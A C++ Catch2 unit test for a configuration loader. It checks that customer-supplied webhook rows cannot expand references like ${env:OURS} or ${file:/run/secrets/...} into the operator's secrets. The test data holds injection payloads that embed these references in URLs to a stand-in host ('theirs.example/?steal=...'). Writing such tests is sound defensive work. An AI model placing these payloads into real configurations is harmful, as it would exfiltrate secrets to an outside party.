#include <catch2/catch.hpp>

#include "tests/unit/config/support.hpp"
#include "tests/unit/config/tree_manifests.hpp"

using namespace reprise::config;
using namespace reprise::config::test;

namespace {

constexpr std::string_view kOurs = "whsec_b3VyIG93biBzZWNyZXQsIG5vdCB0aGVpcnM=";

// What a registry writes for us, with a customer's texts in it.
std::string with_row(const std::string& row) {
  return "tables: {webhooks: {\"42\": " + row +
         "}}\nconnectors:\n  c:\n    source: {plugin: source-test}\n"
         "    sink: {plugin: sink-webhook, endpoint: {table: webhooks}, signing: [{scheme: standard_v1}]}\n";
}

// All that a customer could get to see: what is sent by the row, or what is said about it.
std::string outcome_of(const std::string& row) {
  FakeSecrets secrets;
  secrets.environment = {{"OURS", std::string(kOurs)}};
  secrets.files = {{"/run/secrets/ours:", std::string(kOurs)}, {"/run/secrets/ours:42", std::string(kOurs)}};
  const Document documents[] = {{"a.yaml", with_row(row)}};
  try {
    const Config config = load(documents, lookup_in_tree(), secrets);
    return config.tables.at("webhooks").rows.at(0).json;
  } catch (const ConfigError& error) {
    return error.what();
  }
}

}  // namespace

TEST_CASE("A customer's text is no template: it reads none of our secrets", "[hostile][rows]") {
  const auto* const reference =
      GENERATE("${env:OURS}", "${file:/run/secrets/ours}", "${file:/run/secrets/ours:42}", "$${env:OURS}${env:OURS}");
  const auto* const row = GENERATE("{url: \"https://theirs.example/?steal=REF\", secret: \"SECRET\"}",
                                   "{url: \"https://REF.theirs.example/\", secret: \"SECRET\"}",
                                   "{url: \"https://theirs.example/\", secret: \"SECRET\", note: \"REF\"}",
                                   "{url: \"https://theirs.example/\", secret: \"SECRET\", \"REF\": 1}",
                                   "{url: [\"REF\"], secret: \"SECRET\"}", "\"REF\"");
  std::string text = row;
  text.replace(text.find("REF"), 3, reference);
  if (const auto at = text.find("SECRET"); at != std::string::npos)
    text.replace(at, 6, "whsec_dGhlaXIgb3duIHNlY3JldCwgbm90IG91cnMsIGF0IGFsbA==");
  CAPTURE(text);

  CHECK_THAT(outcome_of(text), !Catch::Contains("b3VyIG93biBzZWNyZXQ"));
}

TEST_CASE("A secret of a row may be a reference", "[hostile][rows]") {
  CHECK_THAT(outcome_of("{url: \"https://theirs.example/\", secret: \"${env:OURS}\"}"),
             Catch::Contains("\"secret\":\"" + std::string(kOurs) + "\""));
}
